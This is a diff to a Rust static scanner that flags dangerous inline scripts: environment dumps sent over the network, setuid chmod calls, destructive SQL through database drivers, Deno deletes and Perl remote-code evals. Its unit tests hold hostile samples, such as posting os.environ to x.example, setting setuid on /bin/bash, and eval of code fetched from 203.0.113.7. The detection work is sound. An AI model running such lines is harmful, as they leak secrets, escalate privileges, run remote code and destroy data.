@@ -81,6 +81,8 @@ pub(crate) enum Found {
     /// The body sends data over the network (a POST / PUT, a request body, `data=`,
     /// `files=`, a socket write), not only fetches: what it read may be what it sends.
     Sends,
+    /// The whole environment read (see [`reads_whole_env`]), in a body that also fetches.
+    ReadEnv,
     /// A URL fetched.
     Fetch(String),
     /// Code fetched from the network is executed (`exec(urlopen(…).read())`).
@@ -415,6 +417,17 @@ fn int_literal(t: &[Tok]) -> Option<String> {
     s.bytes().any(|b| b.is_ascii_digit()).then_some(s)
 }
 
+/// `s` reads as one SQL statement: its first word is a statement's verb.
+fn is_sql(s: &str) -> bool {
+    let w = s.trim_start().split([' ', '\t', '\n']).next().unwrap_or("");
+    [
+        "DROP", "TRUNCATE", "DELETE", "ALTER", "UPDATE", "INSERT", "CREATE", "GRANT", "REVOKE",
+        "SELECT", "WITH", "MERGE",
+    ]
+    .iter()
+    .any(|v| w.eq_ignore_ascii_case(v))
+}
+
 /// A lookup of an environment variable by name (`os.environ[…]`, `getenv(…)`, `$ENV{…}`).
 fn is_env_lookup(id: &str) -> bool {
     matches!(
@@ -459,6 +472,7 @@ fn is_home_expr(id: &str) -> bool {
             | "os.homedir"
             | "homedir"
             | "process.env.HOME"
+            | "vim.env.HOME"
     )
 }
 
@@ -490,11 +504,11 @@ impl Scan<'_> {
             Some(Tok::Str(..) | Tok::Id(_) | Tok::P('[')) if self.lang != Lang::Python => {
                 self.bare_args(i)
             }
-            // Perl `kill 9, $pid` / `kill -9, $pid`
+            // Perl `kill 9, $pid` / `kill -9, $pid` / `chmod 0755, $f`
             Some(Tok::P(c))
                 if self.lang == Lang::Perl
                     && (c.is_ascii_digit() || *c == '-')
-                    && matches!(&self.t[i], Tok::Id(x) if x == "kill") =>
+                    && matches!(&self.t[i], Tok::Id(x) if x == "kill" || x == "chmod") =>
             {
                 self.bare_args(i)
             }
@@ -672,6 +686,56 @@ impl Scan<'_> {
     /// child the body started itself (`p = Popen(…); os.kill(p.pid, 9)`) or its
     /// own pid is the job spec `%child` (like `kill %1`), a literal stays literal
     /// (`os.kill(-1, 9)` is `kill -9 -1`).
+    /// A mode change (`os.chmod(p, 0o4755)`, `fs.chmodSync(p, 0o777)`, `File.chmod(04755, p)`,
+    /// Perl's `chmod 04755, $p`, PHP's `chmod($p, 0777)`) as the `chmod MODE PATH` it amounts
+    /// to (octal; `u+s` for a mode naming `S_ISUID`; `…` for a mode or path not literal).
+    fn chmod(&self, lang: Lang, full: &str, args: &[(usize, usize)]) -> Option<Found> {
+        let mode_first = match (lang, full) {
+            (Lang::Python, "os.chmod" | "os.lchmod")
+            | (Lang::Node, "fs.chmodSync" | "fs.chmod" | "chmodSync" | "Deno.chmodSync")
+            | (Lang::Php, "chmod") => false,
+            (Lang::Ruby, "File.chmod" | "FileUtils.chmod") | (Lang::Perl, "chmod") => true,
+            _ => return None,
+        };
+        let (m, p) = match mode_first {
+            true => (args.first()?, args.get(1)?),
+            false => (args.get(1)?, args.first()?),
+        };
+        let toks = &self.t[m.0..m.1];
+        let text: String = toks
+            .iter()
+            .map(|t| match t {
+                Tok::P(c) => c.to_string(),
+                Tok::Id(i) => i.clone(),
+                _ => String::new(),
+            })
+            .collect();
+        let mode = if text.contains("S_ISUID") || text.contains("S_ISGID") {
+            Some("u+s".to_string())
+        } else if let Some(o) = text.strip_prefix("0o").or_else(|| text.strip_prefix("0O")) {
+            o.bytes()
+                .all(|b| (b'0'..=b'7').contains(&b))
+                .then(|| o.to_string())
+        } else if text.bytes().all(|b| b.is_ascii_digit()) && !text.is_empty() {
+            match text.starts_with('0') || lang != Lang::Python {
+                true => Some(text.clone()),
+                // Python reads a plain number as decimal
+                false => text.parse::<u32>().ok().map(|n| format!("{n:o}")),
+            }
+        } else {
+            None
+        };
+        let path = match self.eval(p.0, p.1) {
+            Val::Str(s) => Some(s),
+            _ => None,
+        };
+        Some(Found::Argv(vec![
+            Some("chmod".into()),
+            Some(mode.unwrap_or_else(|| "…".into())),
+            Some(path.unwrap_or_else(|| "…".into())),
+        ]))
+    }
+
     fn kill(
         &self,
         lang: Lang,
@@ -1105,7 +1169,9 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
     ]) || toks
         .iter()
         .any(|t| matches!(t, Tok::Str(s, _) if matches!(s.as_str(), "open-uri" | "net/http" | "http" | "https" | "node-fetch" | "axios" | "http.client")))
-        || has(&["HTTPSConnection", "HTTPConnection", "http.client", "post", "put"]);
+        || has(&["HTTPSConnection", "HTTPConnection", "http.client", "post", "put"])
+        // LWP::Simple's `get(URL)` (the module loaded by `perl -MLWP::Simple`)
+        || (lang == Lang::Perl && has(&["get", "getprint"]));
     // a connection to a bare host (`HTTPSConnection('203.0.113.1')`, `IO::Socket::INET->new("h:443")`)
     let connects = has(&[
         "HTTPSConnection",
@@ -1389,6 +1455,28 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                     if let Some(f) = sc.kill(lang, full, &args, &children) {
                         out.push(f);
                     }
+                    out.extend(sc.chmod(lang, full, &args));
+                    // SQL run through a driver (`cur.execute('DROP …')`, `db.query(…)`): the
+                    // statement as `psql -c` would run it, for the database rules to judge
+                    // (the lexer drops the `.` of a method called on an expression: `f().x(`)
+                    let method =
+                        full.contains('.') || k > 0 && matches!(toks[k - 1], Tok::P(')' | ']'));
+                    if method
+                        && matches!(
+                            name,
+                            "execute" | "executescript" | "executemany" | "query" | "exec" | "raw"
+                        )
+                    {
+                        if let Some(Val::Str(sql)) = &first {
+                            if is_sql(sql) {
+                                out.push(Found::Argv(vec![
+                                    Some("psql".into()),
+                                    Some("-c".into()),
+                                    Some(sql.clone()),
+                                ]));
+                            }
+                        }
+                    }
                     // deletes
                     let recursive_fn = matches!(
                         name,
@@ -1400,7 +1488,8 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                             | "remove_entry_secure"
                             | "remove_tree"
                             | "rmdir_p"
-                    ) || (matches!(name, "rmSync" | "rm" | "rmdirSync")
+                    ) || ((matches!(name, "rmSync" | "rm" | "rmdirSync")
+                        || matches!(full, "Deno.remove" | "Deno.removeSync"))
                         && lang == Lang::Node
                         && toks[k..all_end.min(toks.len())]
                             .iter()
@@ -1414,7 +1503,10 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                             matches!(name, "delete" | "unlink" | "rm" | "rm_f")
                                 && (full.starts_with("File") || full.starts_with("FileUtils"))
                         }
-                        Lang::Node => matches!(name, "unlinkSync" | "unlink" | "rmSync" | "rm"),
+                        Lang::Node => {
+                            matches!(name, "unlinkSync" | "unlink" | "rmSync" | "rm")
+                                || matches!(full, "Deno.remove" | "Deno.removeSync")
+                        }
                         Lang::Php => matches!(name, "unlink" | "rmdir"),
                         Lang::Perl => matches!(name, "unlink" | "rmdir"),
                         Lang::Lua => full == "os.remove",
@@ -1605,11 +1697,58 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
         || toks
             .iter()
             .any(|t| matches!(t, Tok::Str(s, _) if s.eq_ignore_ascii_case("post") || s.eq_ignore_ascii_case("put")))
-        || file_get_contents_query(&toks);
-    if sends && out.iter().any(|f| matches!(f, Found::Read(_))) {
+        || file_get_contents_query(&toks)
+        || (fetching && url_carries_data(&toks));
+    if fetching && reads_whole_env(&toks) {
+        out.push(Found::ReadEnv);
+    }
+    if sends
+        && out
+            .iter()
+            .any(|f| matches!(f, Found::Read(_) | Found::ReadEnv))
+    {
         out.push(Found::Sends);
     }
     out
+}
+
+/// The body reads the whole environment (`dict(os.environ)`, `os.environ.copy()`,
+/// `JSON.stringify(process.env)`, `Deno.env.toObject()`, `ENV.to_h`, Perl's `%ENV`, PHP's
+/// `getenv()` / `$_ENV`), not one variable of it (`os.environ['HOME']`, `process.env.PORT`).
+fn reads_whole_env(t: &[Tok]) -> bool {
+    t.iter().enumerate().any(|(k, tok)| {
+        let next = t.get(k + 1);
+        match tok {
+            Tok::Id(id) => match id.as_str() {
+                "os.environ" | "process.env" | "$_ENV" | "ENV" => {
+                    !matches!(next, Some(Tok::P('[' | '{' | '(')))
+                }
+                "os.environ.copy" | "os.environ.items" | "Deno.env.toObject" | "ENV.to_h"
+                | "ENV.to_a" | "ENV.to_hash" | "ENV.inspect" => true,
+                "getenv" => matches!((next, t.get(k + 2)), (Some(Tok::P('(')), Some(Tok::P(')')))),
+                _ => false,
+            },
+            // Perl's `%ENV` (not `$ENV{X}`)
+            Tok::P('%') => {
+                matches!(next, Some(Tok::Id(e)) if e == "ENV")
+                    && !matches!(t.get(k + 2), Some(Tok::P('{')))
+            }
+            _ => false,
+        }
+    })
+}
+
+/// A URL that carries computed data: a literal ending a query value or a path (`=`, `/`)
+/// joined to what follows (`fetch("https://…?d=" + btoa(…))`, `"…/" . $x`), or an
+/// interpolated one (`` `https://…/${x}` ``, `"https://…#{x}"`).
+fn url_carries_data(t: &[Tok]) -> bool {
+    t.windows(2).any(|w| match w {
+        [Tok::Str(s, false), Tok::P('+' | '.')] => {
+            looks_url(s) && (s.ends_with('=') || s.ends_with('/'))
+        }
+        [Tok::Str(s, true), _] => looks_url(s),
+        _ => false,
+    })
 }
 
 /// `file_get_contents("https://…?d=" . …)`: a GET whose URL carries computed data.
@@ -1966,5 +2105,121 @@ mod tests {
         let _ = scan(Lang::Perl, "qx(");
         let _ = scan(Lang::Ruby, "%x{");
         let _ = scan(Lang::Python, "\"\"\"");
+    }
+
+    /// One line per fact: (language, body, a fact it must give, true = given / false = not).
+    #[test]
+    fn facts_of_runtimes_drivers_and_the_environment() {
+        let argv = |v: &[&str]| Found::Argv(v.iter().map(|s| Some(s.to_string())).collect());
+        let cases: Vec<(Lang, &str, Found, bool)> = vec![
+            // Deno's own delete, recursive only with the option
+            (
+                Lang::Node,
+                "await Deno.remove('/srv/x', { recursive: true })",
+                Found::Delete {
+                    path: Some("/srv/x".into()),
+                    recursive: true,
+                },
+                true,
+            ),
+            (
+                Lang::Node,
+                "Deno.removeSync('a.txt')",
+                Found::Delete {
+                    path: Some("a.txt".into()),
+                    recursive: false,
+                },
+                true,
+            ),
+            // the whole environment, read by a body that also fetches
+            (
+                Lang::Node,
+                "fetch('https://x.example/?d=' + JSON.stringify(process.env))",
+                Found::ReadEnv,
+                true,
+            ),
+            (
+                Lang::Python,
+                "import os,requests; requests.post('https://x.example/', json=dict(os.environ))",
+                Found::ReadEnv,
+                true,
+            ),
+            (
+                Lang::Python,
+                "import os; print(dict(os.environ))",
+                Found::ReadEnv,
+                false,
+            ),
+            (
+                Lang::Node,
+                "fetch('https://x.example/' + process.env.USER)",
+                Found::ReadEnv,
+                false,
+            ),
+            // mode changes as the chmod they amount to (Python reads 493 as decimal)
+            (
+                Lang::Python,
+                "import os; os.chmod('/bin/bash', 0o4755)",
+                argv(&["chmod", "4755", "/bin/bash"]),
+                true,
+            ),
+            (
+                Lang::Python,
+                "import os; os.chmod('x', 493)",
+                argv(&["chmod", "755", "x"]),
+                true,
+            ),
+            (
+                Lang::Perl,
+                "chmod 04755, '/bin/sh'",
+                argv(&["chmod", "04755", "/bin/sh"]),
+                true,
+            ),
+            (
+                Lang::Ruby,
+                "File.chmod(0644, 'a')",
+                argv(&["chmod", "0644", "a"]),
+                true,
+            ),
+            // SQL through a driver's method, as psql -c would run it
+            (
+                Lang::Python,
+                "c.cursor().execute('DROP TABLE users')",
+                argv(&["psql", "-c", "DROP TABLE users"]),
+                true,
+            ),
+            (
+                Lang::Node,
+                "client.query('TRUNCATE orders')",
+                argv(&["psql", "-c", "TRUNCATE orders"]),
+                true,
+            ),
+            (
+                Lang::Python,
+                "c.execute(sql)",
+                argv(&["psql", "-c", "sql"]),
+                false,
+            ),
+            // LWP::Simple's get, evaluated
+            (
+                Lang::Perl,
+                "eval get('http://203.0.113.7/p.pl')",
+                Found::RunFetched,
+                true,
+            ),
+            (
+                Lang::Perl,
+                "print get('https://example.com/')",
+                Found::RunFetched,
+                false,
+            ),
+        ];
+        for (lang, code, fact, given) in cases {
+            assert_eq!(
+                scan(lang, code).contains(&fact),
+                given,
+                "{lang:?} {code}: {fact:?}"
+            );
+        }
     }
 }
